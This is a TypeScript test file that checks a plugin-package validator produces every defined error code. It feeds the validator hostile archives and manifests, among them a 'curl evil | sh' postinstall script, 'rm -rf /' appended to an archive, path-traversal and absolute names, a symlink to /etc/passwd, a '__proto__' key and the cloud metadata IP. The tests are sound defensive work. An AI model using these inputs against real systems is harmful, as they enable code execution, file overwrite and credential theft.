/**
 * Every code of the closed error set (`ERROR_CODES`) is produced by a real code path: the
 * package validator, the reader or the manifest parser and validator for the archive and
 * manifest codes, and the publish pipeline in functions/ for the server-side ones. The test
 * iterates over ERROR_CODES, so a new code without a case here fails.
 */
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
// Plain tar/gzip writer for hostile archives; it imports node:zlib only (no Firebase SDKs).
import { concat, gzip, paxRecords, rawTar, type RawEntry } from '../../testing/src/tar-builder.js';
import type { ErrorCode } from './error-codes.js';
import { ERROR_CODES, PackageError, type ValidationIssue } from './errors.js';
import { DEFAULT_LIMITS, resolveLimits, type PackageLimits } from './limits.js';
import { parseManifestBytes, validateManifestValue } from './manifest/validate.js';
import { nodePlatform, packFiles, validatePackageBytes } from './node/index.js';
import { jpegHeader, pngHeader, webpHeader } from './package/image-fixtures.js';
import { MAX_MODULE_BYTES } from './package/code-checks.js';
import { readPackage } from './package/reader.js';
import { validatePackage } from './package/validate.js';

const ALL_CODES = Object.keys(ERROR_CODES) as ErrorCode[];
const enc = new TextEncoder();
const REPO = fileURLToPath(new URL('../../../', import.meta.url));

// ---------------------------------------------------------------------------------------------
// A minimal valid plugin, and ways to spoil it.

const PUBLISHER = 'acme';
const ID = `${PUBLISHER}.coverage`;
const ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8"/></svg>\n';

function manifest(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: ID,
    name: 'Coverage',
    version: '1.0.0',
    description: 'A plugin that exists to be broken in tests.',
    publisher: PUBLISHER,
    license: 'MIT',
    categories: ['automation'],
    keywords: ['test'],
    capabilities: [
      {
        type: 'automation-step',
        id: 'echo',
        title: 'Echo',
        inputSchema: { type: 'object', properties: { text: { type: 'string' } } },
        outputSchema: { type: 'object' },
      },
    ],
    permissions: [],
    main: 'index.js',
    engines: { platform: '^1.0.0' },
    icon: 'icon.svg',
    readme: 'README.md',
    repository: 'https://github.com/acme/coverage',
    ...overrides,
  };
}

type Files = Record<string, string | Uint8Array>;
const MAIN = 'export default { steps: { async echo(input) { return input; } } };\n';

/** The plugin's files with manifest overrides; `null` in `changes` removes a file. */
function pluginFiles(
  overrides: Record<string, unknown> = {},
  changes: Record<string, string | Uint8Array | null> = {},
) {
  const files: Files = {
    'plugin.json': JSON.stringify(manifest(overrides)),
    'index.js': MAIN,
    'README.md': '# Coverage\n',
    'icon.svg': ICON,
  };
  for (const [name, value] of Object.entries(changes)) {
    if (value === null) delete files[name];
    else files[name] = value;
  }
  return files;
}

/** Tar entries for files, plugin.json first. */
function entries(files: Files): RawEntry[] {
  return Object.entries(files).map(([name, data]) => ({ name, data }));
}

/** The valid plugin's entries followed by `extra` raw entries, as a tar (no gzip). */
const tarWith = (extra: RawEntry[] = [], end = true) => rawTar([...entries(pluginFiles()), ...extra], { end });
/** ... gzipped. */
const tgzWith = (extra: RawEntry[] = []) => gzip(tarWith(extra));

/** Pseudo-random printable text: does not compress, so ratio limits stay out of the way. */
function noise(length: number, seed = 7): string {
  let out = '';
  let s = seed;
  for (let i = 0; i < length; i++) {
    s = (s * 1103515245 + 12345) & 0x7fffffff;
    out += String.fromCharCode(0x21 + (s % 90));
  }
  return out;
}

const validate = (bytes: Uint8Array, limits?: Partial<PackageLimits>) =>
  validatePackageBytes(bytes, limits).then((v) => v.errors);
const validatePlugin = (overrides: Record<string, unknown>, changes?: Record<string, string | Uint8Array | null>) =>
  packFiles(pluginFiles(overrides, changes)).then((bytes) => validate(bytes));
const manifestText = (text: string | Uint8Array) =>
  packFiles(pluginFiles({}, { 'plugin.json': text })).then((bytes) => validate(bytes));

async function* chunksOf(bytes: Uint8Array, size = 1024) {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

/** The issue of a PackageError thrown by `run`, or the test fails. */
async function packageError(run: () => Promise<unknown>): Promise<ValidationIssue[]> {
  const error = await run().then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(PackageError);
  return [(error as PackageError).toIssue()];
}

function deepArray(depth: number): unknown {
  let value: unknown = 'leaf';
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

const uiPanel = { type: 'ui-panel', id: 'panel', title: 'Panel', entry: 'panel.html' };
const stepCapability = (inputSchema: unknown) => ({
  type: 'automation-step',
  id: 'step',
  title: 'Step',
  inputSchema,
  outputSchema: { type: 'object' },
});

// ---------------------------------------------------------------------------------------------
// The cases: each produces its code through the real validator, reader or manifest functions.

interface Case {
  name: string;
  produce: () => Promise<ValidationIssue[]>;
  /** The exact codes expected, when not just the one code (several issues of the same code). */
  codes?: ErrorCode[];
}

const CASES: Partial<Record<ErrorCode, Case[]>> = {
  // Archive
  'package-empty': [{ name: 'a 0-byte file', produce: () => validate(new Uint8Array(0)) }],
  'package-too-large': [
    {
      name: 'one byte over the default compressed-size limit (refused before reading)',
      produce: () => validate(new Uint8Array(DEFAULT_LIMITS.maxCompressedBytes + 1)),
    },
    {
      name: 'a valid package one byte over a lowered limit',
      produce: async () => {
        const bytes = await packFiles(pluginFiles());
        return validate(bytes, { maxCompressedBytes: bytes.length - 1 });
      },
    },
  ],
  'package-size-mismatch': [
    {
      name: 'fewer bytes than announced (validatePackage)',
      produce: async () => {
        const bytes = await packFiles(pluginFiles());
        const result = await validatePackage(chunksOf(bytes), nodePlatform, { compressedSize: bytes.length + 1 });
        return result.errors;
      },
    },
    {
      name: 'more bytes than announced (readPackage)',
      produce: async () => {
        const bytes = await packFiles(pluginFiles());
        return packageError(() => readPackage(chunksOf(bytes), nodePlatform, { compressedSize: bytes.length - 1 }));
      },
    },
  ],
  'not-gzip': [
    { name: 'a bare tar', produce: () => validate(tarWith()) },
    { name: 'fewer bytes than any gzip member', produce: () => validate(Uint8Array.from([0x1f, 0x8b, 8, 0, 0])) },
    {
      name: 'gzip magic with a method other than deflate',
      produce: async () => {
        const bytes = tgzWith().slice();
        bytes[2] = 7;
        return validate(bytes);
      },
    },
  ],
  'gzip-corrupt': [
    {
      name: 'CRC32 that does not match',
      produce: async () => {
        const bytes = tgzWith().slice();
        bytes[bytes.length - 8]! ^= 0xff;
        return validate(bytes);
      },
    },
    {
      name: 'ISIZE that does not match',
      produce: async () => {
        const bytes = tgzWith().slice();
        bytes[bytes.length - 1]! ^= 0x01;
        return validate(bytes);
      },
    },
    {
      name: 'reserved header flag bits',
      produce: async () => {
        const bytes = tgzWith().slice();
        bytes[3] = 0xe0;
        return validate(bytes);
      },
    },
    {
      name: 'invalid deflate data',
      produce: async () => {
        const bytes = tgzWith().slice();
        // Block type 3 (BTYPE=11) is reserved in RFC 1951.
        bytes[10] = 0x07;
        return validate(bytes);
      },
    },
  ],
  'gzip-truncated': [
    {
      name: 'a gzip member cut in half',
      produce: async () => {
        const bytes = tgzWith();
        return validate(bytes.slice(0, Math.floor(bytes.length / 2)));
      },
    },
    {
      name: 'a header whose file name never ends',
      produce: () =>
        validate(concat([Uint8Array.from([0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 0xff]), enc.encode('x'.repeat(30))])),
    },
  ],
  'gzip-trailing-data': [
    { name: 'two concatenated gzip members', produce: () => validate(concat([tgzWith(), tgzWith()])) },
    { name: 'a script after the gzip member', produce: () => validate(concat([tgzWith(), enc.encode('rm -rf /\n')])) },
  ],
  'tar-corrupt': [
    {
      name: 'a header checksum that does not match',
      produce: () => validate(tgzWith([{ name: 'bad.js', data: 'x', badChecksum: true }])),
    },
  ],
  'tar-truncated': [
    {
      name: 'a tar that ends inside an entry',
      produce: () => {
        const last = rawTar([{ name: 'big.bin', data: noise(2000) }], { end: false });
        return validate(gzip(concat([tarWith([], false), last.subarray(0, 512 + 1000)])));
      },
    },
  ],
  'tar-entries-after-end': [
    {
      name: 'an entry after the end-of-archive marker',
      produce: () => validate(gzip(concat([tarWith(), rawTar([{ name: 'hidden.js', data: 'steal()' }])]))),
    },
  ],
  'uncompressed-too-large': [
    {
      name: 'incompressible data over a lowered uncompressed limit',
      produce: () =>
        validate(tgzWith([{ name: 'blob.txt', data: noise(32 * 1024) }]), { maxUncompressedBytes: 16 * 1024 }),
    },
  ],
  'compression-ratio-exceeded': [
    {
      name: '1 MiB of zeros (default limits)',
      produce: () => validate(tgzWith([{ name: 'zeros.bin', data: new Uint8Array(1024 * 1024) }])),
    },
  ],
  'too-many-entries': [
    {
      name: `${DEFAULT_LIMITS.maxEntries + 1} entries (default limits)`,
      produce: () =>
        validate(
          tgzWith(Array.from({ length: DEFAULT_LIMITS.maxEntries + 1 }, (_, i) => ({ name: `many/f${i}`, data: '' }))),
        ),
    },
  ],
  'path-too-long': [
    {
      name: `a PAX path of ${DEFAULT_LIMITS.maxPathBytes + 1} bytes`,
      produce: () =>
        validate(
          tgzWith([
            {
              name: 'PaxHeaders/l',
              type: 'x',
              data: paxRecords({ path: `lib/${'a'.repeat(DEFAULT_LIMITS.maxPathBytes - 3)}` }),
            },
            { name: 'long.js', data: 'x' },
          ]),
        ),
    },
  ],
  'path-absolute': [
    { name: 'an absolute ustar name', produce: () => validate(tgzWith([{ name: '/etc/cron.d/evil', data: 'x' }])) },
    { name: 'a drive-letter name', produce: () => validate(tgzWith([{ name: 'C:/evil.dll', data: 'x' }])) },
  ],
  'path-traversal': [
    { name: '".." in the ustar name', produce: () => validate(tgzWith([{ name: '../evil.js', data: 'x' }])) },
    {
      name: '".." in the ustar prefix',
      produce: () => validate(tgzWith([{ name: 'evil.js', prefix: '../..', data: 'x' }])),
    },
    {
      name: '".." in a GNU long name',
      produce: () =>
        validate(
          tgzWith([
            { name: '././@LongLink', type: 'L', data: `${'a/'.repeat(60)}../../../evil.js\0` },
            { name: 'short.js', data: 'x' },
          ]),
        ),
    },
  ],
  'path-invalid': [
    { name: 'a backslash', produce: () => validate(tgzWith([{ name: '..\\evil.js', data: 'x' }])) },
    {
      name: 'NUL inside a PAX path',
      produce: () =>
        validate(
          tgzWith([
            { name: 'PaxHeaders/n', type: 'x', data: paxRecords({ path: 'ok.js\0../../evil.js' }) },
            { name: 'ok.js', data: 'x' },
          ]),
        ),
    },
    { name: 'an empty segment', produce: () => validate(tgzWith([{ name: 'lib//a.js', data: 'x' }])) },
    { name: 'a regular file named "./"', produce: () => validate(tgzWith([{ name: './', data: 'x' }])) },
  ],
  'path-not-utf8': [
    {
      name: 'a ustar name that is not UTF-8',
      produce: () => validate(tgzWith([{ name: Uint8Array.from([0x66, 0xff, 0xfe, 0x2e, 0x6a, 0x73]), data: 'x' }])),
    },
    {
      name: 'a PAX path that is not UTF-8',
      produce: () =>
        validate(
          tgzWith([
            {
              name: 'PaxHeaders/u',
              type: 'x',
              data: paxRecords({ path: Uint8Array.from([0x66, 0xc3, 0x28, 0x2e, 0x6a, 0x73]) }),
            },
            { name: 'u.js', data: 'x' },
          ]),
        ),
    },
  ],
  'path-duplicate': [
    { name: 'the same name twice', produce: () => validate(tgzWith([{ name: 'index.js', data: 'x' }])) },
    { name: 'names equal after case folding', produce: () => validate(tgzWith([{ name: 'Index.js', data: 'x' }])) },
    {
      name: 'names equal after NFC',
      produce: () =>
        validate(
          tgzWith([
            { name: 'caf\u00e9.js', data: 'a' },
            { name: 'cafe\u0301.js', data: 'b' },
          ]),
        ),
    },
  ],
  'entry-type-forbidden': [
    {
      name: 'a symbolic link',
      produce: () => validate(tgzWith([{ name: 'passwd', type: '2', linkname: '/etc/passwd' }])),
    },
    { name: 'a hard link', produce: () => validate(tgzWith([{ name: 'copy.js', type: '1', linkname: 'index.js' }])) },
    { name: 'a fifo', produce: () => validate(tgzWith([{ name: 'pipe', type: '6' }])) },
  ],
  // Manifest
  'manifest-missing': [
    {
      name: 'no plugin.json',
      produce: () => packFiles(pluginFiles({}, { 'plugin.json': null })).then((b) => validate(b)),
    },
    {
      name: 'plugin.json only in a subdirectory',
      produce: async () => {
        const files = pluginFiles();
        const text = files['plugin.json']!;
        delete files['plugin.json'];
        return validate(await packFiles({ ...files, 'sub/plugin.json': text }));
      },
    },
  ],
  'manifest-too-large': [
    {
      name: 'a plugin.json over the default limit in a package',
      produce: () => manifestText(JSON.stringify(manifest({ padding: noise(DEFAULT_LIMITS.maxManifestBytes) }))),
    },
    {
      name: 'parseManifestBytes with one byte over the limit',
      produce: async () =>
        parseManifestBytes(new Uint8Array(DEFAULT_LIMITS.maxManifestBytes + 1).fill(0x20), resolveLimits()).issues,
    },
  ],
  'manifest-not-json': [
    { name: 'a trailing comma and a comment', produce: () => manifestText('{ "id": "x", // no\n}') },
    { name: 'bytes that are not UTF-8', produce: () => manifestText(Uint8Array.from([0x7b, 0xff, 0x7d])) },
  ],
  'manifest-too-deep': [
    {
      name: `nesting of ${DEFAULT_LIMITS.maxManifestDepth + 1} levels`,
      // The top-level object is one level: the array adds the rest.
      produce: () => manifestText(JSON.stringify(manifest({ deep: deepArray(DEFAULT_LIMITS.maxManifestDepth) }))),
    },
  ],
  'manifest-forbidden-key': [
    {
      name: '"__proto__" at the top and "constructor" in a step schema',
      codes: ['manifest-forbidden-key', 'manifest-forbidden-key'],
      produce: () =>
        manifestText(
          JSON.stringify(
            manifest({
              capabilities: [stepCapability({ type: 'object', properties: { constructor: { type: 'string' } } })],
            }),
          ).replace(/^\{/, '{"__proto__":{"isAdmin":true},'),
        ),
    },
  ],
  'manifest-schema': [
    {
      name: 'an install script property',
      produce: () => validatePlugin({ scripts: { postinstall: 'curl evil | sh' } }),
    },
    { name: 'a required field missing', produce: () => validatePlugin({ license: undefined }) },
  ],
  'manifest-id-publisher-mismatch': [
    { name: 'an id outside the publisher namespace', produce: () => validatePlugin({ id: 'other.coverage' }) },
  ],
  'manifest-version-invalid': [{ name: 'version "1.0"', produce: () => validatePlugin({ version: '1.0' }) }],
  'manifest-engine-range-invalid': [
    {
      name: 'a range that is not semver',
      produce: () => validatePlugin({ engines: { platform: 'latest and greatest' } }),
    },
  ],
  'manifest-file-missing': [
    { name: 'main not in the package', produce: () => validatePlugin({}, { 'index.js': null }) },
    {
      name: 'a screenshot not in the package',
      produce: () => validatePlugin({ screenshots: [{ path: 'missing.png', caption: 'Main view' }] }),
    },
    {
      name: 'a panel entry not in the package',
      produce: () =>
        validatePlugin({
          capabilities: [uiPanel],
          permissions: [{ name: 'ui:panel', reason: 'Shows its panel' }],
        }),
    },
  ],
  'permission-unknown': [
    {
      name: 'a permission outside the catalogue',
      produce: () => validatePlugin({ permissions: [{ name: 'camera:spy', reason: 'Watches everyone' }] }),
    },
  ],
  'permission-duplicate': [
    {
      name: 'the same permission twice, in a package',
      produce: () =>
        validatePlugin({
          permissions: [
            { name: 'sensors:read', reason: 'Reads the temperature' },
            { name: 'sensors:read', reason: 'Reads the humidity' },
          ],
        }),
    },
    {
      name: 'network:fetch twice with different hosts (validateManifestValue)',
      produce: async () =>
        validateManifestValue(
          manifest({
            permissions: [
              { name: 'network:fetch', reason: 'Reads the weather', hosts: ['api.weather.com'] },
              { name: 'network:fetch', reason: 'Reads the tiles', hosts: ['tiles.weather.com'] },
            ],
          }),
          {
            files: new Map([
              ['index.js', 1],
              ['README.md', 1],
              ['icon.svg', 1],
            ]),
          },
        ).issues,
    },
  ],
  'permission-host-wildcard': [
    {
      name: 'a wildcard host',
      produce: () =>
        validatePlugin({ permissions: [{ name: 'network:fetch', reason: 'Any subdomain', hosts: ['*.example.com'] }] }),
    },
  ],
  'permission-host-forbidden': [
    {
      name: 'the metadata server IP',
      produce: () =>
        validatePlugin({ permissions: [{ name: 'network:fetch', reason: 'Credentials', hosts: ['169.254.169.254'] }] }),
    },
    {
      name: 'an internal name',
      produce: () =>
        validatePlugin({
          permissions: [{ name: 'network:fetch', reason: 'Reads the intranet database', hosts: ['db.corp'] }],
        }),
    },
  ],
  'permission-required': [
    {
      name: 'a ui-panel without ui:panel',
      produce: () => validatePlugin({ capabilities: [uiPanel] }, { 'panel.html': '<p>hi</p>' }),
    },
  ],
  'capability-duplicate-id': [
    {
      name: 'two capabilities with the same id',
      produce: () =>
        validatePlugin({ capabilities: [stepCapability({ type: 'object' }), stepCapability({ type: 'object' })] }),
    },
  ],
  'capability-schema-invalid': [
    {
      name: 'a step schema with a pattern',
      produce: () => validatePlugin({ capabilities: [stepCapability({ type: 'string', pattern: '^(a+)+$' })] }),
    },
    {
      name: 'a step schema with a remote $ref',
      produce: () => validatePlugin({ capabilities: [stepCapability({ $ref: 'https://evil.example.com/s.json' })] }),
    },
    {
      name: 'a step schema that is not a JSON Schema',
      produce: () => validatePlugin({ capabilities: [stepCapability({ type: 'not-a-type' })] }),
    },
  ],
  'icon-invalid': [
    { name: 'a GIF icon', produce: () => validatePlugin({ icon: 'icon.gif' }, { 'icon.gif': 'GIF89a' }) },
    { name: 'a .png that is not a PNG', produce: () => validatePlugin({ icon: 'icon.png' }, { 'icon.png': ICON }) },
    { name: 'an .svg that is not an SVG', produce: () => validatePlugin({}, { 'icon.svg': 'hello' }) },
    {
      name: 'an icon over the default size limit',
      produce: () => validatePlugin({}, { 'icon.svg': `<svg>${noise(DEFAULT_LIMITS.maxIconBytes)}</svg>` }),
    },
  ],
  'changelog-invalid': [
    {
      name: 'a changelog without a section for the version',
      produce: () =>
        validatePlugin({ changelog: 'CHANGELOG.md' }, { 'CHANGELOG.md': '# Changelog\n\n## 0.9.0\nOld\n' }),
    },
    {
      name: 'a changelog that is not UTF-8',
      produce: () =>
        validatePlugin({ changelog: 'CHANGELOG.md' }, { 'CHANGELOG.md': Uint8Array.from([0x23, 0x20, 0xff, 0xfe]) }),
    },
    {
      name: 'a changelog over the default size limit',
      produce: () =>
        validatePlugin(
          { changelog: 'CHANGELOG.md' },
          { 'CHANGELOG.md': `## 1.0.0\n${noise(DEFAULT_LIMITS.maxChangelogBytes)}` },
        ),
    },
  ],
  'screenshot-invalid': [
    {
      name: 'a screenshot that is not an image',
      produce: () =>
        validatePlugin({ screenshots: [{ path: 'shot.png', caption: 'Main view' }] }, { 'shot.png': 'not a picture' }),
    },
    {
      name: 'a screenshot too small',
      produce: () =>
        validatePlugin(
          { screenshots: [{ path: 'shot.png', caption: 'Main view' }] },
          { 'shot.png': pngHeader(100, 80) },
        ),
    },
    {
      name: 'a screenshot too large in pixels',
      produce: () =>
        validatePlugin(
          { screenshots: [{ path: 'shot.jpg', caption: 'Main view' }] },
          { 'shot.jpg': jpegHeader(8000, 6000) },
        ),
    },
    {
      name: 'a screenshot over the size limit',
      produce: () =>
        validatePlugin(
          { screenshots: [{ path: 'shot.webp', caption: 'Main view' }] },
          { 'shot.webp': concat([webpHeader(640, 400), enc.encode(noise(DEFAULT_LIMITS.maxScreenshotBytes))]) },
        ),
    },
  ],
  'readme-invalid': [
    {
      name: 'a README that is not UTF-8',
      produce: () => validatePlugin({}, { 'README.md': Uint8Array.from([0x23, 0x20, 0xff, 0xfe]) }),
    },
    {
      name: 'a README over the default size limit',
      produce: () => validatePlugin({}, { 'README.md': `# Big\n${noise(DEFAULT_LIMITS.maxReadmeBytes)}` }),
    },
    {
      name: 'a README that is not UTF-8 (validateManifestValue)',
      produce: async () =>
        validateManifestValue(manifest(), {
          files: new Map([
            ['index.js', 1],
            ['README.md', 2],
            ['icon.svg', 1],
          ]),
          contents: new Map([['README.md', Uint8Array.from([0xc3, 0x28])]]),
        }).issues,
    },
  ],
  // Code (more cases in package/code-check-corpus.ts)
  'main-not-javascript': [
    {
      name: 'main in TypeScript',
      produce: () => validatePlugin({ main: 'index.ts' }, { 'index.ts': 'export default {};\n' }),
    },
  ],
  'module-syntax-error': [
    { name: 'main cut off', produce: () => validatePlugin({}, { 'index.js': 'export default { steps: {' }) },
  ],
  'module-too-large': [
    {
      name: 'a module one byte over the per-module budget',
      produce: () => {
        // A comment of xorshift noise: it does not compress, so the ratio limit stays out of the way.
        const bytes = new Uint8Array(MAX_MODULE_BYTES + 1).fill(0x2f);
        for (let i = 2, x = 2463534242; i < bytes.length; i += 1) {
          x ^= x << 13;
          x ^= x >>> 17;
          x ^= x << 5;
          bytes[i] = 0x21 + ((x >>> 0) % 90);
        }
        return validatePlugin({}, { 'lib/vendor.js': bytes });
      },
    },
  ],
  'import-not-allowed': [
    { name: 'a node: built-in', produce: () => validatePlugin({}, { 'index.js': `import 'node:fs';\n${MAIN}` }) },
  ],
  'import-not-found': [
    { name: 'a missing module', produce: () => validatePlugin({}, { 'index.js': `import './gone.js';\n${MAIN}` }) },
  ],
  'step-not-exported': [
    {
      name: 'an empty steps object',
      produce: () => validatePlugin({}, { 'index.js': 'export default { steps: {} };\n' }),
    },
  ],
};

/**
 * Codes only the publish pipeline (functions/, against Firestore and Storage) produces: they
 * depend on the upload intent and on other publishers' ids and versions, so no package alone
 * can produce them. Their integration tests are in functions/src/publish/*.int.test.ts.
 */
const SERVER_SIDE: Partial<Record<ErrorCode, string>> = {
  'upload-mismatch': 'the stored object differs from the upload intent in size or sha256',
  'upload-expired': 'the file arrived after the intent expired, or never arrived (sweep)',
  'publisher-mismatch': 'plugin.json names another publisher than the uploader',
  'id-owned': 'the id belongs to another publisher',
  'id-confusable': 'the id or publisher looks like another publisher’s',
  'id-reserved': 'the id uses a reserved name',
  'version-exists': 'the version is already published',
  'scan-blocked':
    'the upload scan found a secret or a blocklisted digest (the scan needs the blocklist and the other publishers’ listings)',
  'review-rejected': 'an administrator rejected a quarantined version (decideReview)',
  'token-revoked': 'the API token that announced the upload was revoked or expired before the pipeline ran',
};

/**
 * Codes in ERROR_CODES that no code path produces (reported, not fixed here).
 * - `internal`: nothing in functions/ or packages/ ever sets it on an upload or a
 *   ValidationIssue; unexpected failures in the publish pipeline are rethrown (and retried), and
 *   callables report HttpsError('internal') with reason 'internal', which is a different code set.
 */
const NOT_PRODUCED: Partial<Record<ErrorCode, string>> = {
  internal: 'no code path sets it; pipeline failures are rethrown and retried instead',
};

// ---------------------------------------------------------------------------------------------

/** Non-test TypeScript sources under `dir` (relative to the repository root), as one text each. */
function sources(dir: string): Array<{ file: string; text: string }> {
  const root = path.join(REPO, dir);
  return (readdirSync(root, { recursive: true }) as string[])
    .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && !f.includes('node_modules'))
    .map((f) => ({ file: path.join(dir, f), text: readFileSync(path.join(root, f), 'utf8') }));
}

/** Places that set `code` on an issue: `code: 'x'` or `new PackageError('x'`. */
function producers(code: ErrorCode, files: Array<{ file: string; text: string }>): string[] {
  const pattern = new RegExp(`(?:\\bcode:\\s*|new PackageError\\(\\s*|\\badd\\(\\s*)'${code}'`);
  return files.filter((f) => pattern.test(f.text)).map((f) => f.file);
}

describe('error-code coverage', () => {
  it('the valid base plugin passes, so each case fails only for what it spoils', async () => {
    const result = await validatePackageBytes(await packFiles(pluginFiles()));
    expect(result.errors).toEqual([]);
    expect(result.ok).toBe(true);
    // The hand-written tar of the same files passes too.
    expect(await validate(tgzWith())).toEqual([]);
  });

  it('classifies every code exactly once: a case, server side, or not produced', () => {
    for (const code of ALL_CODES) {
      const places = [
        CASES[code]?.length ? 'cases' : '',
        SERVER_SIDE[code] ? 'server' : '',
        NOT_PRODUCED[code] ? 'none' : '',
      ];
      expect(places.filter(Boolean), `${code}: add a case that produces it (or classify it)`).toHaveLength(1);
    }
    for (const code of [...Object.keys(CASES), ...Object.keys(SERVER_SIDE), ...Object.keys(NOT_PRODUCED)]) {
      expect(ALL_CODES, `${code} is not in ERROR_CODES`).toContain(code);
    }
  });

  describe.each(ALL_CODES)('%s', (code) => {
    const cases = CASES[code];
    if (cases?.length) {
      it.each(cases.map((c) => [c.name, c] as const))('is produced by %s', async (_name, c) => {
        const issues = await c.produce();
        expect(
          issues.map((i) => i.code),
          JSON.stringify(issues),
        ).toEqual(c.codes ?? [code]);
        for (const issue of issues) expect(issue.message.length).toBeGreaterThan(10);
      });
    } else if (SERVER_SIDE[code]) {
      it(`is produced server side only (${SERVER_SIDE[code]})`, () => {
        expect(ERROR_CODES[code].stage).toBe('publish');
        expect(producers(code, sources('functions/src')), `no producer of ${code} in functions/src`).not.toEqual([]);
        expect(producers(code, sources('packages/shared/src'))).toEqual([]);
      });
    } else if (NOT_PRODUCED[code]) {
      it(`is never produced (${NOT_PRODUCED[code]})`, () => {
        const everywhere = [
          ...sources('functions/src'),
          ...sources('packages/shared/src'),
          ...sources('packages/cli/src'),
          ...sources('web/src'),
        ];
        // When this fails, something now produces the code: give it a case above.
        expect(producers(code, everywhere)).toEqual([]);
      });
    } else {
      it('has a case that produces it', () => {
        expect.fail(`No case produces "${code}": add one to CASES (or classify it as server side or not produced).`);
      });
    }
  });
});
